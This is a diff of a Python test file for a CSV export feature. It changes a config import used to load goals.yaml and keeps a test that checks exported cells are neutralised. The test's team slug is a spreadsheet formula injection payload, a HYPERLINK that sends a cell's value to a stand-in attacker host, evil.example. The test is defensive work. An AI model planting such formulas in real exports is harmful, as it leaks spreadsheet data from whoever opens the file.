@@ -8,7 +8,7 @@ import pytest
 
 from app.accounts import service as accounts_service
 from app.accounts.models import Role
-from app.config import PROJECT_ROOT
+from app.config import CONTENT_DIR
 from app.goals import service as goals_service
 from app.web.csvexport import csv_text, safe_cell
 from tests.factories import login, make_user
@@ -30,7 +30,7 @@ def test_every_cell_of_a_written_csv_is_neutralised():
 
 
 def test_a_team_slug_reaches_doelen_csv_as_text(client, db):
-    goals_service.seed(db, goals_service.load_file(PROJECT_ROOT / "content" / "goals.yaml"), date(2027, 1, 4))
+    goals_service.seed(db, goals_service.load_file(CONTENT_DIR / "goals.yaml"), date(2027, 1, 4))
     slug = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
     accounts_service.ensure_team(db, slug, "Team Formule")
     for _ in range(3):
